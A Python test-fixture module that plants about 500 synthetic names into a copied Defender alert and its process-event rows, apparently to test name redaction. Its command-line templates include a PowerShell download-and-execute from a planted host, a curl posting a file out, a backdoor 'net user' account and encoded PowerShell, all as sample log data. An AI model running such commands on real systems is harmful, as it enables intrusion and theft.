"""Names as organisations have them, planted wherever recorded JSON can hold one."""

from __future__ import annotations

import base64
import copy
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

type Json = Any

_SYLLABLES = "ka ro mi len dor vas tur qui zel bra nov hun eck sten gar wil mor fen pli ost jar dun".split()
_LETTERS = {"e": "é", "o": "ö", "a": "å", "n": "ñ", "s": "ß"}
_OTHER_SCRIPTS = ("квартальный", "財務部門", "مالية", "Ελληνικά")


@dataclass(frozen=True, slots=True)
class Planted:
    """A recording with names in it; `names` are all that must go."""

    alert: Json
    entities: dict[str, list[Json]]
    rows: dict[str, list[Json]]
    names: tuple[str, ...]


def word(chance: random.Random) -> str:
    """A word of no language, long enough not to be met by chance."""
    made = "".join(chance.choice(_SYLLABLES) for _ in range(chance.randint(3, 4)))
    if chance.random() < 0.15:
        made = "".join(_LETTERS.get(letter, letter) for letter in made)
    return made


def name(chance: random.Random) -> str:
    """A name of one of the forms that accounts, devices, hosts, shares, projects and files have."""
    forms: tuple[Callable[[], str], ...] = (
        lambda: word(chance),
        lambda: word(chance).title(),
        lambda: word(chance).upper(),
        lambda: f"{word(chance)}.{word(chance)}",
        lambda: f"{word(chance).title()} {word(chance).title()}",
        lambda: f"{word(chance).upper()}-WS-{chance.randint(1, 9999):04d}",
        lambda: f"srv-{word(chance)}-{chance.randint(1, 99):02d}",
        lambda: f"{word(chance)}.{word(chance)}@{word(chance)}.example",
        lambda: f"vpn.{word(chance)}.com",
        lambda: f"{word(chance)}_{word(chance)}.xlsx",
        lambda: word(chance).title() + word(chance).title(),
        lambda: f"10.{chance.randint(1, 254)}.{chance.randint(1, 254)}.{chance.randint(1, 254)}",
        lambda: f"{chance.choice((51, 77, 185))}.{chance.randint(1, 254)}.{chance.randint(1, 254)}.7",
        lambda: f"2a02:{chance.randint(4096, 65535):x}::{chance.randint(4096, 65535):x}",
        lambda: f"S-1-5-21-{chance.randint(10**8, 4 * 10**9)}-{chance.randint(10**8, 10**9)}-77-2041",
        lambda: "-".join(f"{chance.getrandbits(4 * size):0{size}x}" for size in (8, 4, 4, 4, 12)),
        lambda: ":".join(f"{chance.getrandbits(8):02x}" for _ in range(6)),
        lambda: f"{word(chance)}{chance.randint(100, 999)}",
        lambda: chance.choice(_OTHER_SCRIPTS) + word(chance),
        lambda: f"+49 {chance.randint(10**8, 10**9)}",
    )
    return chance.choice(forms)()


def _encoded(text: str) -> str:
    script = f"Copy-Item '{text}' C:\\Windows\\Temp"
    return "powershell.exe -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


_LINES: tuple[Callable[[str], str], ...] = (
    lambda one: f'cmd.exe /c copy "C:\\Projects\\{one}\\plan.txt" \\\\{one}\\c$',
    lambda one: f"net user {one} Passw0rd /add",
    lambda one: f"powershell -nop -c IEX(New-Object Net.WebClient).DownloadString('http://{one}/a?u={one}')",
    _encoded,
    lambda one: f"curl -d @/home/{one}/x https://{one}:8443/",
    lambda one: f"python -c \"print('{one}')\" --{one}={one}",
    lambda one: f'schtasks /create /tn "{one}" /ru {one}',
)
# Where a name is put into a row of DeviceProcessEvents, by column.
_COLUMNS = (
    *("AccountName", "AccountDomain", "AccountUpn", "DeviceName", "InitiatingProcessAccountName", "FileName"),
    *("FolderPath", "InitiatingProcessFolderPath", "ProcessCommandLine", "InitiatingProcessCommandLine"),
    *("ProcessVersionInfoProductName", "AdditionalFields"),
)


def planted(source: Json, entities: dict[str, list[Json]], rows: dict[str, list[Json]], seed: int) -> Planted:
    """A copy of a Defender alert, its look-ups and its rows with some 500 names planted."""
    chance = random.Random(seed)  # noqa: S311 - a repeatable case
    alert, entities, rows = (copy.deepcopy(one) for one in (source, entities, rows))
    names: list[str] = []

    def new() -> str:
        names.append(name(chance))
        return names[-1]

    alert |= {
        "title": f"Custom: log on to {new()}",
        "description": f"{new()} did what {new()} must not. Ask {new()}.",
        "computerDnsName": new(),
        "rbacGroupName": new(),
        "assignedTo": new(),
        "comments": [{"comment": f"called {new()}, see {new()}", "createdBy": new()}],
        "relatedUser": {"userName": new(), "domainName": new()},
        "customDetails": {new(): new(), "Ticket": [new(), {"Owner": new()}]},
        "loggedOnUsers": [{"accountName": new(), "domainName": new()} for _ in range(20)],
    }
    for item in alert["evidence"]:
        item |= {
            "accountName": new(),
            "userPrincipalName": new(),
            "url": f"https://{new()}/{new()}?q={new()}",
        }
    for machine in entities["machines"]:
        machine |= {"computerDnsName": new(), "machineTags": [new(), new()], "rbacGroupName": new()}
    for user in entities["users"]:
        user |= {"accountName": new(), "accountDomain": new(), "id": f"{new()}\\{new()}"}
    known = rows["DeviceProcessEvents"]
    while len(names) < 500:
        row = copy.deepcopy(chance.choice(known[:20]))
        column = chance.choice(_COLUMNS)
        row |= {"ReportId": 10_000_000 + len(names), column: _cell(column, new(), chance)}
        known.append(row)
    rows["DeviceRegistryEvents"] = [
        {**known[0], "RegistryKey": f"HKEY_CURRENT_USER\\Software\\{new()}", "RegistryValueData": new()}
    ]
    return Planted(alert, entities, rows, tuple(names))


def _cell(column: str, one: str, chance: random.Random) -> str:
    if column.endswith("CommandLine"):
        return chance.choice(_LINES)(one)
    if column.endswith("FolderPath"):
        return chance.choice(
            (f"C:\\Users\\{one}\\AppData\\Local\\a.exe", f"/srv/{one}/bin/run", f"D:\\{one}\\x.dll")
        )
    if column == "AdditionalFields":
        inner = json.dumps({"Owner": one, one: [1, {"Path": f"C:\\{one}"}]})
        return chance.choice((json.dumps({"Nested": inner, "Text": f"by {one}"}), f"not JSON: {one}"))
    return one
